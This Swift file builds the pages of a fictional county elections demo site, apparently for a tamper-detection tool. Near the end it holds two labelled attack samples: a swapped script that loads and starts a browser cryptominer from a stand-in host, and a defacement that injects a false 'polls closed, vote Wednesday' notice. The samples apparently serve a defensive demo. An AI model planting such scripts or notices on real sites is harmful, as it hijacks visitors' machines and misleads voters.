import Foundation

/// The demo site's HTML. Plain, accessible pages with no external resources.
enum DemoPages {
    static func page(_ title: String, _ body: String) -> String {
        """
        <!doctype html>
        <html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
        <title>\(title) · Clearwater County Elections</title>
        <style>
        body{font:17px/1.5 system-ui,sans-serif;margin:0;color:#1b1b1b;background:#f7f7f4}
        header{background:#16325c;color:#fff;padding:1rem 1.5rem}header a{color:#fff;text-decoration:none;font-weight:600}
        nav a{color:#fff;margin-right:1.2rem}main{max-width:46rem;margin:1.5rem auto;padding:0 1rem}
        .card{background:#fff;border:1px solid #ddd;border-radius:6px;padding:1rem 1.25rem;margin:1rem 0}
        label{display:block;margin-top:.75rem;font-weight:600}input{font:inherit;padding:.4rem;width:100%;max-width:24rem}
        button{font:inherit;margin-top:1rem;padding:.5rem 1.2rem;background:#16325c;color:#fff;border:0;border-radius:4px}
        table{border-collapse:collapse;width:100%}td,th{text-align:left;padding:.35rem;border-bottom:1px solid #eee}
        .error{color:#a00}footer{color:#666;font-size:.85rem;text-align:center;margin:2rem}
        </style></head><body>
        <header><a href="/">Clearwater County Elections</a>
        <nav><a href="/register">Register to vote</a><a href="/lookup">Find your polling place</a><a href="/results">Results</a></nav></header>
        <main>\(body)</main><footer>Demo site served through Pnyx · all names and numbers are fictional
        <span id="year"></span></footer><script src="/assets/site.js"></script></body></html>

        """
    }

    static let home = page(
        "Home",
        """
        <h1>Welcome, Clearwater County voters</h1>
        <div class="card"><h2>General Election: Tuesday, November 3</h2>
        <p>Polls are open 7:00 AM to 8:00 PM. Bring a photo ID.</p></div>
        <div class="card"><ul>
        <li><a href="/register">Register to vote or update your registration</a></li>
        <li><a href="/lookup">Find your polling place</a></li>
        <li><a href="/results">Unofficial election-night results</a></li></ul></div>
        """)

    static func registerForm(error: String?) -> String {
        page(
            "Register",
            """
            <h1>Voter registration</h1>
            \(error.map { "<p class=\"error\" role=\"alert\">\(escape($0))</p>" } ?? "")
            <form class="card" method="post" action="/register">
            <label for="name">Full name</label><input id="name" name="name" autocomplete="name" required>
            <label for="street">Street address</label><input id="street" name="street" autocomplete="street-address">
            <label for="zip">ZIP code</label><input id="zip" name="zip" inputmode="numeric" pattern="[0-9]{5}" required>
            <label for="dob">Date of birth</label><input id="dob" name="dob" type="date">
            <button type="submit">Submit registration</button></form>
            """)
    }

    static func registered(name: String, zip: String) -> String {
        let number = abs(name.hashValue % 900_000) + 100_000
        return page(
            "Registered",
            """
            <h1>Thank you, \(escape(name))</h1>
            <div class="card" id="confirmation"><p>Your registration was received.</p>
            <p>Confirmation number: <strong>CW-\(number)</strong> (ZIP \(escape(zip)))</p></div>
            """)
    }

    static let lookup = page(
        "Polling place",
        """
        <h1>Find your polling place</h1>
        <form class="card" id="lookup"><label for="address">Your home address</label>
        <input id="address" name="address" required><button type="submit">Look up</button></form>
        <div class="card" id="answer" aria-live="polite">Enter your address above.</div>
        <script>
        document.getElementById('lookup').addEventListener('submit', async (e) => {
          e.preventDefault();
          const a = document.getElementById('address').value;
          const r = await fetch('/api/polling-place?address=' + encodeURIComponent(a), {headers: {Accept: 'application/json'}});
          const out = document.getElementById('answer');
          if (!r.ok) { out.textContent = 'Lookup failed (' + r.status + ').'; return; }
          const j = await r.json();
          out.textContent = 'Precinct ' + j.precinct + ': ' + j.polling_place.name + ', ' + j.polling_place.address + ' (' + j.polling_place.hours + ')';
        });
        </script>
        """)

    static let results = page(
        "Results",
        """
        <h1>Unofficial results</h1><p id="status">Loading…</p><div id="races"></div>
        <script>
        async function load() {
          const r = await fetch('/results/summary.json');
          const j = await r.json();
          document.getElementById('status').textContent =
            j.precincts_reporting + ' of ' + j.precincts_total + ' precincts reporting · updated ' + j.updated;
          const races = document.getElementById('races');
          races.textContent = '';
          for (const race of j.races) {
            const card = document.createElement('div'); card.className = 'card';
            const h = document.createElement('h2'); h.textContent = race.race; card.appendChild(h);
            const t = document.createElement('table');
            for (const c of race.candidates) {
              const tr = t.insertRow(); tr.insertCell().textContent = c.name; tr.insertCell().textContent = c.votes.toLocaleString();
            }
            card.appendChild(t); races.appendChild(card);
          }
        }
        load(); setInterval(load, 30000);
        </script>
        """)

    static func escape(_ text: String) -> String {
        text.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;")
            .replacingOccurrences(of: ">", with: "&gt;").replacingOccurrences(of: "\"", with: "&quot;")
    }

    static func parseForm(_ body: String) -> [String: String] {
        var result: [String: String] = [:]
        for pair in body.split(separator: "&") {
            let parts = pair.split(separator: "=", maxSplits: 1, omittingEmptySubsequences: false)
            func decode(_ s: Substring) -> String {
                String(s).replacingOccurrences(of: "+", with: " ").removingPercentEncoding ?? String(s)
            }
            result[decode(parts[0])] = parts.count > 1 ? decode(parts[1]) : ""
        }
        return result
    }

    /// The site's own script, on every page: fills in the footer's year.
    static let siteScript = "document.getElementById('year').textContent = '\\u00b7 ' + new Date().getFullYear();\n"

    /// The site's script swapped by an attacker (as a territory's election site once served): a browser miner.
    static let swappedScript = """
        window.minerStarted = true;
        var s = document.createElement('script'); s.src = 'https://coin-hive.example/lib/coinhive.min.js'; document.head.appendChild(s);
        var miner = new CoinHive.Anonymous('SITE_KEY', {throttle: 0.3}); miner.start();

        """

    /// `page` as an attacker who took over the web server would leave it: a false notice and a cryptominer.
    static func defaced(_ page: String) -> String {
        let injected = """
            <p style="background:#b00;color:#fff;padding:1em"><strong>NOTICE: due to high turnout, voting for \
            Clearwater County continues on WEDNESDAY. Polling places are closed today.</strong></p>
            <script src="https://coin-hive.example/lib/coinhive.min.js"></script>
            <script>window.minerStarted = true; var miner = new CoinHive.Anonymous('SITE_KEY'); miner.start();</script>
            """
        guard let body = page.range(of: "<body>") else { return injected + page }
        return page.replacingCharacters(in: body, with: "<body>\n" + injected)
    }
}
